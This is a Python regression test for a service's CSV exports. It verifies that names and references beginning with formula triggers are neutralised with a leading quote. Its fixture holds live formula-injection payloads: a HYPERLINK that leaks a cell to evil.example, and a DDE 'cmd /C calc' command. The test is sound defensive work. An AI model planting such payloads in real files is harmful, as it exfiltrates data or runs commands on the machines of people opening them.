"""Issue 10, item 5: CSV formula injection. Names and `external_ref` starting with `=`,
`+`, `-` or `@` came out of `export.csv` and background CSV exports as they were stored,
so a spreadsheet opening the file ran them as formulas. Every CSV the service writes now
neutralises such cells (OWASP: a leading `'`), on SQLite and on PostgreSQL (COPY)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
import time

import pytest

from service.rules.national_id import compose_national_id
from tests.conftest import REPO_ROOT
from tests.integration.agency_helpers import api_key
from tests.integration.conftest import run_worker_burst

from .conftest import OPERATOR

pytestmark = [pytest.mark.data]

HOSTILE = {
    # name: external_ref
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': "=cmd|' /C calc'!A0",
    "+1+2 张三": "+86-10",
    "-2+3 李四": "-SUM(1)",
    "@SUM(1,2) 王五": "@import",
}
"""What the probe enrolled: each cell begins with a formula trigger."""


def _enrol_hostile(target) -> None:
    for n, (name, ref) in enumerate(HOSTILE.items()):
        body = {"name": name, "national_id": compose_national_id("440305", dt.date(1950, 3, 1 + n), 700 + n),
                "region_code": "440305", "external_ref": ref}
        response = target.http.post("/v1/pensioners", json=body, headers=OPERATOR)
        assert response.status_code == 201, response.text


def _cells(text: str) -> list[tuple[str, str]]:
    return sorted((row["name"], row["external_ref"]) for row in csv.DictReader(io.StringIO(text)))


NEUTRALISED = sorted(("'" + name, "'" + ref) for name, ref in HOSTILE.items())


def test_streamed_and_background_csv_exports_neutralise_formulas(target):
    """Used to: `GET /v1/results/export.csv` and the CSV of `POST /v1/exports` held
    `=HYPERLINK(...)`, `+1+2`, `-2+3`, `@SUM(...)` as they were. Now: `'=HYPERLINK(...)` etc."""
    _enrol_hostile(target)
    key = api_key(target.services, regions=["440000"], scopes=["results:read", "export:read"])

    streamed = target.http.get("/v1/results/export.csv", params={"region": "440000"}, headers=key)
    assert streamed.status_code == 200, streamed.text
    assert _cells(streamed.text) == NEUTRALISED

    created = target.http.post("/v1/exports", json={"format": "csv", "region": "440000"}, headers=key)
    assert created.status_code == 202, created.text
    run_worker_burst(target.services)
    job = target.http.get(f"/v1/exports/{created.json()['id']}", headers=key).json()
    assert job["state"] == "done", job
    download = target.http.get(job["download_url"], headers=key)
    assert download.status_code == 200
    assert _cells(download.text) == NEUTRALISED

    # JSON is data, not a spreadsheet: the feed and NDJSON keep the values as they were
    lines = target.http.get("/v1/results/export.ndjson", params={"region": "440000"}, headers=key).text
    assert sorted((o["name"], o["external_ref"]) for o in map(json.loads, lines.splitlines())) == sorted(HOSTILE.items())
    feed = target.http.get("/v1/results", params={"region": "440000"}, headers=key).json()["results"]
    assert sorted((r["name"], r["external_ref"]) for r in feed) == sorted(HOSTILE.items())


def test_the_refused_rows_report_of_bulk_enrol_neutralises_formulas(target, tmp_path):
    """Used to: `certify bulk-enrol --errors-out` wrote a refused row's message
    `=HYPERLINK(...).jpg is not in the zip` as it was. Now: `'=HYPERLINK(...)...`."""
    key = api_key(target.services, regions=["440000"], scopes=["pensioners:write"])["Authorization"][7:]
    photo = '=HYPERLINK("http://evil.example","x").jpg'
    people = tmp_path / "people.csv"
    with people.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["name", "national_id", "region_code", "photo"])
        writer.writerow(["赵六", compose_national_id("440305", dt.date(1951, 4, 5), 801), "440305", photo])
    photos = tmp_path / "photos.zip"
    import zipfile

    with zipfile.ZipFile(photos, "w") as archive:
        archive.writestr("someone.jpg", (target.data / "people/joe_biden/1.jpg").read_bytes())
    refused = tmp_path / "refused.csv"
    env = dict(os.environ, CERTIFY_API_URL=target.url, CERTIFY_API_KEY=key)
    process = subprocess.Popen(
        [sys.executable, "-m", "cli.main", "bulk-enrol", str(people), "--photos", str(photos),
         "--errors-out", str(refused)],
        cwd=REPO_ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while process.poll() is None and time.monotonic() < deadline:
        run_worker_burst(target.services)
        time.sleep(0.2)
    _, stderr = process.communicate(timeout=30)
    assert process.returncode == 1, stderr  # the row was refused
    rows = list(csv.DictReader(refused.open(encoding="utf-8")))
    assert [(r["field"], r["code"]) for r in rows] == [("photo", "photo_not_in_zip")]
    assert rows[0]["message"] == f"'{photo} is not in the zip"
